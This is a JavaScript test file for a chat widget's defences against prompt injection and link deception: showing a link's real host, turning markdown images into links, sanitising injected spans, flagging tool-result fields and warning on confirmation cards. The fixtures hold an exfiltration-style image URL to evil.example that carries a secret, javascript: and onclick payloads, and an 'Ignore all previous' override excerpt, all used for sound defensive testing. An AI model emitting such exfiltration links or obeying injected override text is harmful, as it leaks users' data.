// The front end's guard displays, pure parts: the host shown after a link, a tool result's flags
// and a confirmation's provenance (and the note its card shows for a request the gate could not
// read).
// Run: node tests/widget/js/test_guard_display.mjs   (node >= 20, after `npm ci` in frontend/;
// exit code 1 on failure). It imports the built module, gmchat_nb/widget/static/chat.js.

import assert from "node:assert/strict";
import { test } from "node:test";

import { CHAT_JS, newWindow } from "./dom.mjs";

const {
  ConfirmBox,
  FLAGGED_WARNING,
  UNREAD_REQUEST_NOTE,
  confirmProvenance,
  flagReasonText,
  flagText,
  flagsLabel,
  linkHost,
  pathsByKey,
  renderMarkdown,
  resultFlags,
  sanitizedFragment,
} = await import(CHAT_JS.href);

const document = newWindow().document;

function render(text) {
  const el = document.createElement("div");
  renderMarkdown(el, text);
  return el;
}

const md = (text) => render(text).innerHTML;
const HOST = (host) => `<span class="gmchat-link-host" data-testid="link-host"> (${host})</span>`;

// ------------------------------------------------------------------ linkHost

test("linkHost names the host of a link whose text is not its URL", () => {
  assert.equal(linkHost("https://evil.example/x", "docs"), "evil.example");
  assert.equal(linkHost("https://evil.example/x", "Click here"), "evil.example");
  assert.equal(linkHost("https://evil.example:8443/x", "x"), "evil.example:8443");
  // a text that looks like another URL, or another host, is not the link's own
  assert.equal(linkHost("https://evil.example/x", "https://bank.example/x"), "evil.example");
  assert.equal(linkHost("https://evil.example/x", "bank.example"), "evil.example");
  assert.equal(linkHost("https://bank.example.evil.example/", "bank.example"), "bank.example.evil.example");
  // the same page with a query string that carries data out
  assert.equal(linkHost("https://evil.example/x?d=secret", "https://evil.example/x"), "evil.example");
  // an international domain in its ASCII form (homographs show as what they are)
  assert.equal(linkHost("https://b\u00fccher.example/", "books"), "xn--bcher-kva.example");
  assert.equal(linkHost("mailto:someone@evil.example", "write to us"), "someone@evil.example");
  assert.equal(linkHost("https://evil.example/", ""), "evil.example");
});

test("linkHost adds nothing when the text is the URL itself, or its host", () => {
  for (const [href, text] of [
    ["https://example.com/a", "https://example.com/a"],
    ["https://example.com/", "https://example.com"],
    ["https://example.com/", "HTTPS://EXAMPLE.COM/"],
    ["https://example.com/a", "example.com/a"],
    ["https://example.com/a?b=1", "example.com"],
    ["https://b\u00fccher.example/x", "https://b\u00fccher.example/x"],
    ["mailto:me@example.com", "me@example.com"],
  ]) {
    assert.equal(linkHost(href, text), "", `${text} -> ${href}`);
  }
  for (const bad of ["javascript:alert(1)", "/relative", "data:text/html,x", null, 42]) {
    assert.equal(linkHost(bad, "x"), "", String(bad));
  }
});

// ------------------------------------------------------------------ links in answers

test("a link whose text is not its URL shows its host after it", () => {
  const a = (href, text) => `<a href="${href}" rel="noopener noreferrer" target="_blank">${text}</a>`;
  assert.equal(md("[docs](https://evil.example/x)"), `<p>${a("https://evil.example/x", "docs")}${HOST("evil.example")}</p>`);
  assert.equal(md("[Click **here**](https://evil.example/x) now"), `<p>${a("https://evil.example/x", "Click <strong>here</strong>")}${HOST("evil.example")} now</p>`);
  assert.equal(
    md("[https://bank.example](https://evil.example/)"),
    `<p>${a("https://evil.example/", "https://bank.example")}${HOST("evil.example")}</p>`,
  );
  // bare URLs and autolinks show their URL already
  assert.equal(md("see https://example.com/a"), `<p>see ${a("https://example.com/a", "https://example.com/a")}</p>`);
  assert.equal(md("<https://example.com/a>"), `<p>${a("https://example.com/a", "https://example.com/a")}</p>`);
  assert.equal(md("<me@example.com>"), `<p>${a("mailto:me@example.com", "me@example.com")}</p>`);
  assert.equal(md("[example.com](https://example.com)"), `<p>${a("https://example.com/", "example.com")}</p>`);
  // in a table cell and a list item too
  assert.match(md("| a |\n|---|\n| [x](https://evil.example/) |"), /<td><a [^>]+>x<\/a><span class="gmchat-link-host" data-testid="link-host"> \(evil\.example\)<\/span><\/td>/);
  assert.match(md("- [x](https://evil.example/)"), /<li><a [^>]+>x<\/a><span class="gmchat-link-host" data-testid="link-host"> \(evil\.example\)<\/span><\/li>/);
  // a link the parser refuses has no host either
  assert.equal(md("[x](javascript:alert(1))"), "<p>x</p>");
});

test("a markdown image is never an image: a link with its alt text and its host", () => {
  const html = md("![chart](https://evil.example/leak?d=secret)");
  assert.equal(
    html,
    `<p><a href="https://evil.example/leak?d=secret" rel="noopener noreferrer" target="_blank">[image: chart]</a>${HOST("evil.example")}</p>`,
  );
  assert.doesNotMatch(html, /<img/);
  assert.equal(md("![](https://evil.example/p.png)"), `<p><a href="https://evil.example/p.png" rel="noopener noreferrer" target="_blank">[image: image]</a>${HOST("evil.example")}</p>`);
  assert.equal(md("![alt](javascript:x)"), "<p>alt</p>");
});

test("the host is a small text element after the link, and nothing else becomes a span", () => {
  const p = render("[Click here](https://evil.example/x)").firstElementChild;
  assert.deepEqual([...p.childNodes].map((n) => n.nodeName), ["A", "SPAN"]);
  const [link, host] = p.childNodes;
  assert.equal(link.textContent, "Click here");
  assert.equal(host.className, "gmchat-link-host");
  assert.deepEqual(host.getAttributeNames().sort(), ["class", "data-testid"]);
  assert.equal(host.getAttribute("data-testid"), "link-host");
  assert.deepEqual([...host.childNodes].map((n) => n.nodeType), [3]);
  assert.equal(host.textContent, " (evil.example)");
  assert.equal(p.textContent, "Click here (evil.example)");
  // spans in the HTML (as if the parser wrote them) never survive, not even one dressed as a host
  const root = document.createElement("div");
  root.append(
    sanitizedFragment(
      document,
      '<span class="evil" onclick="x">a</span><span>b</span><span class="gmchat-link-host" data-testid="link-host" style="x"><img src="x">c</span>',
    ),
  );
  assert.equal(root.querySelectorAll("span, img").length, 0);
  assert.equal(root.textContent, "abc");
});

// ------------------------------------------------------------------ flags and provenance

test("a result's flags: normalised, counted and described in words", () => {
  const flags = resultFlags([
    { path: "data[0].name", reasons: ["instruction", "markdown_image"], excerpt: "Ignore all previous <b>" },
    { path: "data[1].name", reasons: ["invisible"], excerpt: "a\\u200bb" },
    "junk",
    null,
    [1],
    { path: "message", reasons: "chat_template" },
    { reasons: ["brand_new_reason"] },
  ]);
  assert.deepEqual(flags, [
    { path: "data[0].name", reasons: ["instruction", "markdown_image"], excerpt: "Ignore all previous <b>" },
    { path: "data[1].name", reasons: ["invisible"], excerpt: "a\\u200bb" },
    { path: "message", reasons: ["chat_template"], excerpt: "" },
    { path: "$", reasons: ["brand_new_reason"], excerpt: "" },
  ]);
  assert.deepEqual(resultFlags(undefined), []);
  assert.deepEqual(resultFlags({ path: "x" }), []);
  assert.equal(flagsLabel(3), "\u26a0 3 suspicious fields");
  assert.equal(flagsLabel(1), "\u26a0 1 suspicious field");
  assert.equal(flagText(flags[0]), "data[0].name: instructions to the assistant, a markdown image");
  assert.equal(flagText(flags[3]), "$: brand_new_reason");
  assert.deepEqual(
    ["instruction", "chat_template", "tool_name", "markdown_image", "url_query", "invisible"].map(flagReasonText),
    [
      "instructions to the assistant",
      "chat-template tokens",
      "tool names",
      "a markdown image",
      "a URL with a query string",
      "invisible characters",
    ],
  );
  assert.equal(flagReasonText("__proto__"), "__proto__");
});

test("a confirmation's provenance: paths from data, by input key, and the warning", () => {
  assert.deepEqual(confirmProvenance({ from_data: ["name", "supplier.name", "name"], flagged_data_read: true }), {
    fromData: ["name", "supplier.name"],
    flagged: true,
    requestUnread: false,
  });
  assert.deepEqual(confirmProvenance(undefined), { fromData: [], flagged: false, requestUnread: false });
  assert.deepEqual(confirmProvenance({ from_data: "name", flagged_data_read: "yes", request_unread: "yes" }), {
    fromData: [],
    flagged: false,
    requestUnread: false,
  });
  assert.equal(confirmProvenance({ from_data: [], flagged_data_read: false, request_unread: true }).requestUnread, true);
  const owners = pathsByKey(["name", "supplier", "lines", "a", "a.b"], ["name", "supplier.name", "lines[0].price", "a.b.c", "nameX", "other"]);
  assert.deepEqual(Object.fromEntries(owners), {
    name: "name",
    "supplier.name": "supplier",
    "lines[0].price": "lines",
    "a.b.c": "a.b",
    nameX: null,
    other: null,
  });
  assert.equal(FLAGGED_WARNING, "Text that looks like instructions was read in this turn; check this change carefully.");
});

test("a confirmation whose request the gate could not read says so on its card", () => {
  const previous = globalThis.document;
  globalThis.document = document; // the card builds its elements in this jsdom document
  try {
    const card = (provenance) =>
      new ConfirmBox(() => {}, {
        type: "confirm_mutation",
        id: "call-1",
        mutation: "createPart",
        input: { name: "Dado M6" },
        provenance,
      }).el;
    const unread = card({ from_data: [], flagged_data_read: false, request_unread: true });
    const note = unread.querySelector("[data-testid=unread-request]");
    assert.equal(note.textContent, UNREAD_REQUEST_NOTE);
    assert.equal(note.getAttribute("role"), "alert");
    assert.ok(UNREAD_REQUEST_NOTE.startsWith("Your message could not be read as asking for this change"));
    // a request the gate read, and an older server's provenance: no note
    assert.equal(card({ from_data: [], flagged_data_read: false }).querySelector("[data-testid=unread-request]"), null);
    assert.equal(card(undefined).querySelector("[data-testid=unread-request]"), null);
  } finally {
    globalThis.document = previous;
  }
});

test("a decision the server did not take says so on its card, and may be given again when it never arrived", () => {
  const previous = globalThis.document;
  globalThis.document = document;
  try {
    const sent = [];
    const box = new ConfirmBox((msg) => sent.push(msg), {
      type: "confirm_mutation",
      id: "mcp-1",
      mutation: "createPart",
      input: { name: "AgentPart" },
    });
    const confirm = box.el.querySelector("[data-testid=gmchat-confirm]");
    const outcome = box.el.querySelector(".gmchat-confirm-outcome");
    confirm.click();
    assert.equal(outcome.textContent, "confirmed \u2014 running\u2026");
    // the server was out of reach: the buttons come back, and a second click is sent
    box.notDecided("Could not reach the Jupyter server: offline", true);
    assert.equal(outcome.textContent, "not decided \u2014 Could not reach the Jupyter server: offline");
    assert.equal(confirm.disabled, false);
    confirm.click();
    assert.deepEqual(sent.map((m) => m.type), ["confirm", "confirm"]);
    // refused (expired, decided elsewhere): closed for good, with the server's reason
    box.notDecided("None of your conversations has a pending confirmation with that id", false);
    assert.equal(confirm.disabled, true);
    assert.match(outcome.textContent, /^not decided \u2014 None of your conversations/);
    confirm.click();
    assert.equal(sent.length, 2);
  } finally {
    globalThis.document = previous;
  }
});
